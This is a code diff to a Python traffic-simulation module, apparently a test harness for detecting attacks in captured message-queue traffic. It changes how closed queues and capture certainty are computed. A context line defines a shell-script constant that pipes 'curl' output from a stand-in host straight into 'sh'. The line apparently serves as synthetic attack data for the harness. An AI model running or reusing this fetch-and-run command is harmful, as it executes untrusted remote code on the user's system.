@@ -98,13 +98,14 @@ _OF_BRANCHES: Final = (
 _OF_CENTER: Final = (
     ("erp", "billing", _Application("invoice", 0x21, 30, 4000,
                                     {"transactional": True, "final_ack": True, "journal": True})),
-    ("erp", "warehouse", _Application("shipment", 0x22, 25, 1500, {"transactional": True, **_ASKS})),
+    ("erp", "warehouse", _Application("shipment", 0x22, 25, 1500,
+                                      {"transactional": True, "dead_letter": True, **_ASKS})),
     ("billing", "erp", _Application("payment", 0x23, 12, 800,
                                     {"recoverable": True, "negative_arrival": True, "be_received": 7200})),
 )  # fmt: skip
 _ADMINISTRATION, _ANSWERS = 0x31, 0x32
-_CLOSED: Final = 0x13
-"""The number of the queue that is closed for a time."""
+_CLOSED: Final = frozenset({0x13, 0x22})
+"""The numbers of the queues that are closed for a time."""
 
 
 class Outcome(NamedTuple):
@@ -123,7 +124,8 @@ class Outcome(NamedTuple):
         dead_lettered: Whether its sender put it into a dead-letter queue.
         hops: Number of hops that were captured completely.
         state: The state in `deliveries` that captured packets prove; ``unseen`` if no packet of it is there.
-        certain: Whether every byte was captured of all sessions between the queue managers of its hops.
+        certain: Whether every byte was captured of the sessions in which it was sent, and of all packets
+            about it; if no answer was captured, of all sessions between these queue managers.
     """
 
     message: str
@@ -253,7 +255,7 @@ class Rehearsal:
         begin, end = self._closed
         queue = packet.UserHeader.DestinationQueue
         number = getattr(queue, "PrivateQueueIdentifier", None)
-        if number == _CLOSED and begin <= self._net.now < end:
+        if number in _CLOSED and begin <= self._net.now < end:
             return _CLASS.MQMSG_CLASS_NACK_BAD_DST_Q
         return None
 
@@ -393,7 +395,7 @@ class Rehearsal:
         net = self._net
         for letter in net.letters.values():
             captured = [*letter.captured.values()]
-            hops = {row.hop for row in (*captured, *letter.passed.values()) if row.what == "carried"}
+            stated = state(letter, captured, self._until(letter, captured))
             yield Outcome(
                 letter.message,
                 letter.source,
@@ -405,9 +407,17 @@ class Rehearsal:
                 letter.fate,
                 letter.has_been("dead-lettered"),
                 len({row.hop for row in captured if row.what == "carried"}),
-                state(letter, captured, self._until(letter, captured)),
-                not {frozenset(hop) for hop in hops} & net.lost_pairs,
+                stated,
+                self._is_certain(letter, stated),
             )
+
+    def _is_certain(self, letter: Letter, stated: str) -> bool:
+        """Return whether all is captured that a reader needs to know about a message."""
+        sent = [row for row in letter.passed.values() if row.what == "carried"]
+        if letter.passed.keys() - letter.captured.keys() or {row.line for row in sent} & self._net.lost:
+            return False
+        # Without an answer it may have been sent again in any session of the two.
+        return stated in _ANSWERED or not {frozenset(row.hop) for row in sent} & self._net.lost_pairs
 
     def _until(self, letter: Letter, captured: list[Evidence]) -> float:
         """Return how far the capture of the sensor that saw the last hop of a message first counts."""
@@ -446,6 +456,7 @@ class Rehearsal:
                     yield Attack(pattern, time, src, dst, hop in known)
 
 
+_ANSWERED: Final = frozenset({"refused", "received", "reached", "accepted"})
 _LETTERS: Final = b"abcdefghijklmnopqrstuvwxyz 0123456789"
 _SCRIPT: Final = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
 
